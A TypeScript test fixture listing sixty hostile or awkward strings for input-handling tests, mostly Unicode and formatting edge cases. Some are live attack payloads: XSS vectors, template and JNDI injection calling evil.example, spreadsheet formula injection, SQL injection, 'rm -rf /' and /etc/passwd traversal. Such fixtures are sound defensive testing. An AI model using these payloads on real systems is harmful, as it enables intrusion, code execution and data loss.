/**
 * Sixty texts that a careless program changes, loses or obeys. Each has three characters at least and a hundred at most, so
 * that every field for a name takes it; what is longer has tests of its own.
 */
export const hostileTexts: readonly string[] = [
  // Markup and scripts.
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<b>bold</b> &amp; &lt;i&gt;',
  '<!-- comment --> <style>*{display:none}</style>',
  'javascript:alert(1)//',
  '</textarea></title></script><script>alert(1)</script>',
  '&#x3C;iframe src=javascript:alert(1)&#x3E;',
  '&nbsp;&copy;&hellip;',
  // Templates of every kind.
  '{{7*7}}${7*7}<%= 7*7 %>',
  '{{name}} {{count}} {{-name}}',
  '$t(crud:delete) $t(app:retry)',
  '${constructor.constructor("return 1")()}',
  '#{7*7} *{7*7} @(7*7) [[7*7]]',
  '%s %d %n %x %@ %1$s',
  '${jndi:ldap://evil.example/a}',
  // Cells of spreadsheets.
  '=HYPERLINK("http://evil.example";"click")',
  '+1+cmd|’/c calc’!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '=1+1',
  // Databases, shells, paths, addresses.
  "Robert'); drop table users;--",
  "' or '1'='1",
  '; rm -rf / && $(reboot) `id`',
  '../../../../etc/passwd',
  'C:\\Windows\\win.ini \\n \\0 \\u0000',
  '%3Cscript%3E %00 %2e%2e%2f %E0%A4%A',
  'a&b=c?d#e/f;g+h i',
  '"quoted", \'single\', `back`, \\slash\\',
  // Words that mean nothing, or too much.
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  '000123',
  '1e309',
  '12-06-2026',
  // Scripts, with and without a direction of their own.
  'مرحبا بالعالم \u200F(1)',
  'שלום \u2067עולם\u2069',
  'abc\u202Edcba\u202C',
  'فارسی ۱۲۳ ABC',
  'สวัสดีชาวโลก',
  '你好，世界 こんにちは 안녕하세요',
  'नमस्ते दुनिया',
  'Ελληνικά Кириллица ქართული',
  'ᚠᛇᚻ ᛒᛦᚦ ꙮ 𒐫',
  // Letters beyond sixteen bits, joined, combined, stacked.
  '🤟🏽 sign 👩🏽‍🦻 𝕊𝕃',
  '👨‍👩‍👧‍👦 🏳️‍🌈 🇪🇪🇮🇸',
  'z̸̢̛̤͙a̷l̶g̵o̴',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324 A\u0301\u0302\u0303\u0304',
  'é e\u0301 ñ n\u0303 Å A\u030A',
  'ﬁ ﷽ ǆ İstanbul ẞ ß ı',
  'Ⅻ ½ ² ™ ℃ ㍿',
  // What nobody sees.
  'a\u200Bb\uFEFFc\u2060d',
  'soft\u00ADhyphen no\u00A0break',
  'tag\u{E0041}\u{E0042} variation\uFE0F',
  // Words without a place to break them.
  'W'.repeat(100),
  'Ünbrėakåblê_'.repeat(8),
];
